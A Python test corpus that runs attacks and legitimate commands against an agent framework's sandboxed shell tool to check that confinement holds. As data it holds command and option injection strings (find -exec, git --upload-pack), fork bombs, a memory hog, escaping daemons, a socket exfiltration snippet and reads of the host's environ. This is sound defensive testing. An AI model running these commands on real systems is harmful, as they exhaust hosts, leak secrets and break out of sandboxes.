"""Shell corpus: attacks on ``run_command`` and legitimate uses of it.

Every verdict is measured: marker files that must not appear, processes that must not
survive (a ``/proc`` scan for a unique argument), bytes a listener must not receive, output
sizes and durations. For attacks whose goal is not a call the tool can refuse (a fork bomb,
an orphan, a flood of output), ``refused`` means the tool stopped the command (timeout,
output cap, or the kill of everything left when it exits), and ``escaped`` whether its effect
was seen anyway. Cases that only bwrap can stop (writes outside the workspace, network, the
host's ``/proc``) run under ``isolation="auto"``; where bwrap cannot run they are reported as
escaped when their effect is seen, never assumed stopped.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import time
from collections.abc import Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal, cast

from tests.corpora import CaseResult
from tether.content import ToolResult
from tether.errors import ModelRetry
from tether.tools.base import Tool, ToolContext
from tether.tools.builtin._sandbox import probe_cgroups
from tether.tools.builtin.shell import CommandRule, ResourceLimits, shell_tool

__all__ = ["gone", "live_processes", "run_corpus", "running"]

AREA = "shell"
LIMITS = ResourceLimits(cpu_seconds=10, memory_bytes=1024**3, max_processes=64)
_CTX = ToolContext(run_id="corpus", call_id="call", tool="run_command")


@dataclass
class Outcome:
    """One call: refused by ``ModelRetry``, or the tool's result."""

    refused: str | None
    result: ToolResult | None
    seconds: float

    @property
    def data(self) -> Mapping[str, Any]:
        """The structured result (empty if refused)."""
        if self.result is None or not isinstance(self.result.structured, dict):
            return {}
        return cast(Mapping[str, Any], self.result.structured)

    @property
    def stdout(self) -> str:
        """The command's standard output."""
        return str(self.data.get("stdout", ""))

    @property
    def stopped(self) -> bool:
        """Refused, or ended by the tool (timeout, output cap) rather than by itself."""
        return self.refused is not None or (self.result is not None and self.result.is_error)

    def describe(self) -> str:
        """For a failing case's detail."""
        if self.refused is not None:
            return f"refused: {self.refused}"
        data = {k: v for k, v in self.data.items() if k not in ("stdout", "stderr")}
        return f"{data} stdout={self.stdout[:200]!r} stderr={str(self.data.get('stderr'))[:200]!r}"


async def call(
    tool: Tool, argv: Sequence[str], *, cwd: str | None = None, stdin: str | None = None
) -> Outcome:
    """Validate and run one call as the loop would."""
    arguments: dict[str, Any] = {"argv": list(argv)}
    if cwd is not None:
        arguments["cwd"] = cwd
    if stdin is not None:
        arguments["stdin"] = stdin
    start = time.monotonic()
    try:
        result = await tool.handler(_CTX, tool.validator(arguments))
    except ModelRetry as exc:
        return Outcome(refused=str(exc), result=None, seconds=time.monotonic() - start)
    return Outcome(refused=None, result=result, seconds=time.monotonic() - start)


def live_processes(marker: str) -> list[int]:
    """Pids of live (not zombie) processes whose command line contains ``marker``."""
    needle = marker.encode()
    found: list[int] = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            cmdline = Path("/proc", entry, "cmdline").read_bytes()
            state = Path("/proc", entry, "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if needle in cmdline and state != "Z":
            found.append(int(entry))
    return found


WAIT = 30.0
"""Seconds a check waits for processes to appear or to die before it calls them missing or
left behind (they take a moment: a busy machine may take seconds, never this long)."""


async def gone(marker: str, within: float = WAIT) -> list[int]:
    """Wait until no live process carries ``marker``; the pids still left after ``within`` s.

    A killed process needs a moment to die (longer on a busy machine): its absence is polled
    for, not assumed after a fixed pause.
    """
    deadline = time.monotonic() + within
    while True:
        left = live_processes(marker)
        if not left or time.monotonic() > deadline:
            return left
        await asyncio.sleep(0.02)


async def running(marker: str, within: float = WAIT) -> list[int]:
    """Wait until a live process carries ``marker``; its pids (empty if none by ``within``)."""
    deadline = time.monotonic() + within
    while True:
        found = live_processes(marker)
        if found or time.monotonic() > deadline:
            return found
        await asyncio.sleep(0.02)


async def _watch(marker: str, stop: asyncio.Event, seen: list[int]) -> None:
    """Record the most processes carrying ``marker`` seen at once, while the host still forks."""
    while not stop.is_set():
        seen.append(len(live_processes(marker)))
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), 0.05)


async def _host_can_fork() -> bool:
    proc = await asyncio.create_subprocess_exec("/bin/true")
    return await asyncio.wait_for(proc.wait(), WAIT) == 0  # a fork that fails raises at once


def _command_cgroups() -> list[Path]:
    """The pids cgroups of this process's commands (none without cgroup support)."""
    parent = probe_cgroups().pids_parent
    return [] if parent is None else list(Path(parent).glob(f"tether-{os.getpid()}-*"))


def _forks_refused(cgroup: Path) -> bool:
    """Whether ``cgroup`` has refused a fork: what runs in it is at its process limit."""
    with contextlib.suppress(OSError, ValueError):
        for line in (cgroup / "pids.events").read_text().splitlines():
            name, _, count = line.partition(" ")
            if name == "max" and int(count) > 0:
                return True
    return False


async def _going_off(bomb: asyncio.Future[Outcome], seen: list[int], before: list[Path]) -> None:
    """Wait until a fork bomb presses on its limit (without cgroups: runs), or has ended.

    ``before``: the command cgroups that existed before the bomb was started.
    """
    deadline = time.monotonic() + WAIT
    while not bomb.done() and time.monotonic() < deadline:
        if probe_cgroups().pids_parent is None:
            if max(seen, default=0) > 0:
                return
        elif any(_forks_refused(c) for c in _command_cgroups() if c not in before):
            return
        await asyncio.sleep(0.01)


def _case(
    name: str, *, attack: bool, refused: bool, escaped: bool = False, detail: str = ""
) -> CaseResult:
    return CaseResult(
        area=AREA, name=name, attack=attack, refused=refused, escaped=escaped, detail=detail
    )


# -- the corpus ------------------------------------------------------------------------------

Case = Callable[[], Awaitable[CaseResult]]


async def run_corpus(workdir: Path) -> list[CaseResult]:
    """Run every case with ``workdir`` as scratch space (a workspace and an outside)."""
    ws = workdir / "ws"
    outside = workdir / "outside"
    ws.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    results: list[CaseResult] = []
    results += await _literal_cases(ws)
    results += await _rule_cases(ws)
    results += await _bwrap_only_cases(ws, outside)
    for isolation in ("bwrap", "none"):
        results += await _process_cases(ws, isolation)
    results += await _legitimate_cases(ws)
    return results


def _tool(
    ws: Path,
    allow: Mapping[str, CommandRule] | Sequence[str],
    *,
    isolation: Literal["auto", "bwrap", "none"] = "auto",
    timeout: float = 30.0,  # commands that end by themselves; a case that needs one sets it
    max_output_bytes: int = 100_000,
    env: Mapping[str, str] | None = None,
) -> Tool:
    return shell_tool(
        ws,
        allow=allow,
        timeout=timeout,
        max_output_bytes=max_output_bytes,
        limits=LIMITS,
        isolation=isolation,
        env=env,
    )


async def _literal_cases(ws: Path) -> list[CaseResult]:
    """Shell syntax in argv reaches the program as text and does nothing."""
    tool = _tool(ws, ["echo", "cat", "touch"])
    results: list[CaseResult] = []
    for name, template in [
        ("semicolon", "a; touch {m}"),
        ("and-and", "a && touch {m}"),
        ("pipe", "a | touch {m}"),
        ("command substitution", "$(touch {m})"),
        ("backticks", "`touch {m}`"),
        ("newline", "a\ntouch {m}"),
    ]:
        marker = ws / f"m-{secrets.token_hex(4)}"
        text = template.format(m=marker)
        out = await call(tool, ["echo", text])
        literal = out.stdout == text + "\n"
        results.append(
            _case(
                f"argv literal: {name}",
                attack=True,
                refused=literal,
                escaped=marker.exists(),
                detail=out.describe(),
            )
        )
    marker = ws / f"m-{secrets.token_hex(4)}"
    out = await call(tool, ["echo", "x", ">", str(marker)])
    results.append(
        _case(
            "argv literal: redirect >",
            attack=True,
            refused=out.stdout == f"x > {marker}\n",
            escaped=marker.exists(),
            detail=out.describe(),
        )
    )
    # a shell would feed the file to echo's stdin, which echo ignores: the output would be empty
    out = await call(tool, ["echo", "<", "/etc/hostname"])
    results.append(
        _case(
            "argv literal: redirect <",
            attack=True,
            refused=out.stdout == "< /etc/hostname\n",
            escaped=out.data.get("exit_code") == 0 and out.stdout.strip() == "",
            detail=out.describe(),
        )
    )
    return results


async def _rule_cases(ws: Path) -> list[CaseResult]:
    """Allowlist, argv[0] and option rules; cwd confinement."""
    tool = _tool(ws, {"echo": CommandRule(), "touch": CommandRule(), "find": CommandRule(),
                      "git": CommandRule(), "rsync": CommandRule(), "sh": CommandRule(),
                      "pwd": CommandRule()})  # fmt: skip
    results: list[CaseResult] = []

    async def refused_case(name: str, argv: list[str], marker: Path, **kw: str) -> None:
        out = await call(tool, argv, **kw)
        results.append(
            _case(
                name,
                attack=True,
                refused=out.refused is not None,
                escaped=marker.exists(),
                detail=out.describe(),
            )
        )

    def mark() -> Path:
        return ws / f"m-{secrets.token_hex(4)}"

    victim = ws / "victim.txt"
    victim.write_text("keep")
    out = await call(tool, ["rm", "-f", str(victim)])
    results.append(
        _case("binary not in the allowlist", attack=True, refused=out.refused is not None,
              escaped=not victim.exists(), detail=out.describe())
    )  # fmt: skip
    m = mark()
    await refused_case("absolute argv[0]", ["/bin/sh", "-c", f"touch {m}"], m)
    m = mark()
    await refused_case("relative argv[0]", ["../bin/sh", "-c", f"touch {m}"], m)
    m = mark()
    await refused_case("dotted argv[0]", ["./sh", "-c", f"touch {m}"], m)
    m = mark()
    await refused_case(
        "option injection: find -exec", ["find", ".", "-exec", "touch", str(m), ";"], m
    )
    m = mark()
    await refused_case(
        "option injection: git --upload-pack",
        ["git", "clone", f"--upload-pack=touch {m}", "file:///nonexistent", str(ws / "clone")],
        m,
    )
    m = mark()
    await refused_case("option injection: git -c", ["git", "-c", f"core.pager=touch {m}", "log"], m)
    m = mark()
    await refused_case("option injection: rsync -e", ["rsync", "-e", f"touch {m}", "a", "h:b"], m)
    m = mark()
    await refused_case("sh -c (options refused)", ["sh", "-c", f"touch {m}"], m)
    m = mark()
    await refused_case("NUL byte in an argument", ["touch", f"{m}\0x"], m)
    m = mark()
    await refused_case("stdin over the cap", ["touch", str(m)], m, stdin="x" * 1_000_001)

    outside_link = ws / "up"
    if not outside_link.exists():
        outside_link.symlink_to(ws.parent / "outside")
    for name, cwd in [("cwd ..", ".."), ("cwd absolute", "/etc"), ("cwd symlink out", "up"),
                      ("cwd dotdot inside", "sub/../../outside")]:  # fmt: skip
        out = await call(tool, ["pwd"], cwd=cwd)
        ran_outside = bool(out.stdout) and not out.stdout.startswith(str(ws))
        results.append(
            _case(f"cwd escape: {name}", attack=True, refused=out.refused is not None,
                  escaped=ran_outside, detail=out.describe())
        )  # fmt: skip
    return results


async def _bwrap_only_cases(ws: Path, outside: Path) -> list[CaseResult]:
    """Filesystem, network and host-process attacks that only bwrap stops."""
    tool = _tool(ws, {"touch": CommandRule(), "cat": CommandRule(),
                      "python3": CommandRule(allow_options=["-c"])})  # fmt: skip
    note = "" if tool.annotations.open_world is False else "bwrap unavailable: not isolated; "
    results: list[CaseResult] = []

    marker = outside / f"m-{secrets.token_hex(4)}"
    out = await call(tool, ["touch", str(marker)])
    results.append(
        _case("write outside the workspace", attack=True, refused=out.data.get("exit_code") != 0,
              escaped=marker.exists(), detail=note + out.describe())
    )  # fmt: skip
    host_tmp = Path("/tmp") / f"tether-corpus-{secrets.token_hex(4)}"
    out = await call(tool, ["python3", "-c", f"open({str(host_tmp)!r}, 'w').write('x')"])
    escaped = host_tmp.exists()
    host_tmp.unlink(missing_ok=True)
    # under bwrap the write succeeds, into the sandbox's private /tmp: stopped, not refused
    results.append(
        _case("write the host's /tmp", attack=True, refused=out.refused is None and not escaped,
              escaped=escaped, detail=note + out.describe())
    )  # fmt: skip

    received: list[bytes] = []

    async def on_connect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(100) or b"<connected>")
        writer.write(b"k")  # the sender waits for this: it ends only once this was recorded
        with contextlib.suppress(ConnectionError):
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(on_connect, "127.0.0.1", 0)
    port = cast(tuple[str, int], server.sockets[0].getsockname())[1]
    try:
        code = (
            f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=2); "
            "s.settimeout(20); s.sendall(b'exfiltrated'); s.recv(1); s.close()"
        )
        out = await call(tool, ["python3", "-c", code])
    finally:
        server.close()
        await server.wait_closed()
    results.append(
        _case("network: connect to a host listener", attack=True,
              refused=out.data.get("exit_code") != 0, escaped=bool(received),
              detail=note + out.describe())
    )  # fmt: skip
    code = (
        "import socket; socket.create_connection(('127.0.0.1', 5432), timeout=2); "
        "print('CONNECTED')"
    )
    out = await call(tool, ["python3", "-c", code])
    results.append(
        _case("network: PostgreSQL on 127.0.0.1:5432", attack=True,
              refused=out.data.get("exit_code") != 0, escaped="CONNECTED" in out.stdout,
              detail=note + out.describe())
    )  # fmt: skip

    host_env = Path(f"/proc/{os.getpid()}/environ").read_bytes().decode("utf-8", "replace")
    host_entries = [e for e in host_env.split("\0") if "=" in e and len(e) > 8]
    out = await call(tool, ["cat", f"/proc/{os.getpid()}/environ"])
    leaked = [e for e in host_entries if e in out.stdout]
    results.append(
        _case("read the host's /proc/<pid>/environ", attack=True,
              refused=out.data.get("exit_code") != 0, escaped=bool(leaked),
              detail=note + out.describe())
    )  # fmt: skip
    return results


async def _process_cases(ws: Path, isolation: Literal["bwrap", "none"]) -> list[CaseResult]:
    """Resource and process attacks, under one isolation level."""
    from tether.tools.builtin._sandbox import probe_bwrap

    if isolation == "bwrap" and probe_bwrap().path is None:
        return [
            _case(f"[bwrap] process cases: {probe_bwrap().reason}", attack=True, refused=False,
                  escaped=True, detail="bwrap cannot run here; these cases were not observed")
        ]  # fmt: skip
    tag = f"[{isolation}]"
    secret = f"sk-corpus-{secrets.token_hex(8)}"
    os.environ["TETHER_CORPUS_SECRET"] = secret
    allow = {"env": CommandRule(), "sh": CommandRule(allow_options=["-c"]),
             "bash": CommandRule(allow_options=["-c"]), "head": CommandRule(allow_options=["-c"]),
             "yes": CommandRule(), "python3": CommandRule(allow_options=["-c"])}  # fmt: skip
    try:
        # ``tool`` stops, by its timeout, what never ends by itself; ``patient`` runs what
        # ends by itself (or is stopped by a cap), with time to spare on a busy machine
        tool = _tool(ws, allow, isolation=isolation, timeout=2.0)
        patient = _tool(ws, allow, isolation=isolation)
        out = await call(patient, ["env"])
    finally:
        del os.environ["TETHER_CORPUS_SECRET"]
    results = [
        _case(f"{tag} env leakage", attack=True, refused=out.refused is None and "PATH=" in out.stdout,
              escaped=secret in out.stdout, detail=out.describe())
    ]  # fmt: skip

    for name, script in [
        ("fork bomb (named, kept alive)", "b(){ b|b& }; b; sleep 1000 # {m}"),
        ("fork bomb (classic, bash)", ":(){ :|:& };: # {m}"),
    ]:
        marker = f"bomb-{secrets.token_hex(6)}"
        shell = "bash" if "bash" in name else "sh"
        stop, seen = asyncio.Event(), list[int]()
        watcher = asyncio.ensure_future(_watch(marker, stop, seen))
        before = _command_cgroups()
        bomb = asyncio.ensure_future(call(tool, [shell, "-c", script.replace("{m}", marker)]))
        await _going_off(bomb, seen, before)
        responsive = await _host_can_fork()  # while it presses on its limit
        out = await bomb
        stop.set()
        await watcher
        left = await gone(marker)
        bound = (LIMITS.max_processes or 0) + 4  # bwrap and its init are in the cgroup too
        peak = max(seen, default=0)
        results.append(
            _case(f"{tag} {name}", attack=True, refused=True,
                  escaped=bool(left) or peak > bound or not responsive,
                  detail=f"peak={peak} left={left} responsive={responsive} {out.describe()}")
        )  # fmt: skip

    marker = ws / f"hog-{secrets.token_hex(4)}"
    code = f"x = bytearray(4 * 10**9); open({str(marker)!r}, 'w').write('allocated')"
    out = await call(patient, ["python3", "-c", code])
    results.append(
        _case(f"{tag} memory hog (4 GB)", attack=True,
              refused=out.data.get("exit_code") not in (0, None) or out.stopped,
              escaped=marker.exists(), detail=out.describe())
    )  # fmt: skip

    seconds = f"1000.{secrets.randbelow(10**6):06d}"
    out = await call(tool, ["sh", "-c", f"sleep {seconds} & wait"])
    left = await gone(f"sleep\0{seconds}")
    results.append(
        _case(f"{tag} orphan: sleep in the background", attack=True, refused=out.stopped,
              escaped=bool(left), detail=f"left={left} {out.describe()}")
    )  # fmt: skip

    marker = f"daemon-{secrets.token_hex(6)}"
    code = (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        time.sleep(1000)  # {marker}\n    os._exit(0)\nos.wait()"
    )
    out = await call(patient, ["python3", "-c", code])
    left = await gone(marker)
    results.append(
        _case(f"{tag} orphan: setsid double-fork daemon", attack=True,
              refused=out.refused is None, escaped=bool(left),
              detail=f"left={left} {out.describe()}")
    )  # fmt: skip

    for name, argv in [
        ("1 GB of output (head)", ["head", "-c", "1000000000", "/dev/zero"]),
        ("endless output (yes)", ["yes"]),
    ]:
        out = await call(patient, argv)
        size = len(out.stdout.encode())
        results.append(
            _case(f"{tag} {name}", attack=True,
                  refused=bool(out.data.get("stdout_truncated")),
                  escaped=size > 100_000 or out.seconds > 10,
                  detail=f"bytes={size} seconds={out.seconds:.2f} {out.describe()[:300]}")
        )  # fmt: skip
    return results


async def _legitimate_cases(ws: Path) -> list[CaseResult]:
    """Ordinary uses that must work."""
    tool = _tool(
        ws,
        {"echo": CommandRule(), "cat": CommandRule(), "ls": CommandRule(), "touch": CommandRule(),
         "grep": CommandRule(allow_options=["-n", "-i"]), "false": CommandRule(),
         "find": CommandRule(allow_options=["-name", "-type"]), "pwd": CommandRule(),
         "sh": CommandRule(allow_options=["-c"]), "python3": CommandRule(allow_options=["-c"]),
         "head": CommandRule(allow_options=["-n", "--lines"])},
    )  # fmt: skip
    (ws / "sub").mkdir(exist_ok=True)
    (ws / "notes.txt").write_text("alpha\nbeta\ngamma\n")
    (ws / "sub" / "deep.txt").write_text("x")
    results: list[CaseResult] = []

    async def legit(name: str, argv: list[str], ok: Callable[[Outcome], bool], **kw: str) -> None:
        out = await call(tool, argv, **kw)
        good = out.refused is None and out.result is not None and ok(out)
        results.append(_case(name, attack=False, refused=not good, detail=out.describe()))

    def exit0(out: Outcome) -> bool:
        return out.data.get("exit_code") == 0 and not out.stopped

    await legit("echo", ["echo", "hello", "world"],
                lambda o: exit0(o) and o.stdout == "hello world\n")  # fmt: skip
    await legit("ls the workspace", ["ls"], lambda o: exit0(o) and "notes.txt" in o.stdout)
    await legit("cat from stdin", ["cat"], lambda o: o.stdout == "piped", stdin="piped")
    await legit(
        "one argument with spaces", ["touch", "a b.txt"],
        lambda o: exit0(o) and (ws / "a b.txt").exists() and not (ws / "a").exists(),
    )  # fmt: skip
    await legit("grep -n (allowed option)", ["grep", "-n", "beta", "notes.txt"],
                lambda o: exit0(o) and o.stdout == "2:beta\n")  # fmt: skip
    await legit("non-zero exit is a result", ["false"],
                lambda o: o.data.get("exit_code") == 1 and not o.stopped)  # fmt: skip
    await legit("find -name (allowed options)", ["find", ".", "-name", "deep.txt"],
                lambda o: exit0(o) and "./sub/deep.txt" in o.stdout)  # fmt: skip
    await legit("cwd in a subdirectory", ["pwd"],
                lambda o: exit0(o) and o.stdout.strip() == str(ws / "sub"), cwd="sub")  # fmt: skip
    await legit(
        "write a file in the workspace", ["sh", "-c", "echo made > made.txt"],
        lambda o: exit0(o) and (ws / "made.txt").read_text() == "made\n",
    )  # fmt: skip
    await legit("python3 computes", ["python3", "-c", "print(6 * 7)"],
                lambda o: exit0(o) and o.stdout == "42\n")  # fmt: skip
    await legit("head --lines=1", ["head", "--lines=1", "notes.txt"],
                lambda o: exit0(o) and o.stdout == "alpha\n")  # fmt: skip
    return results
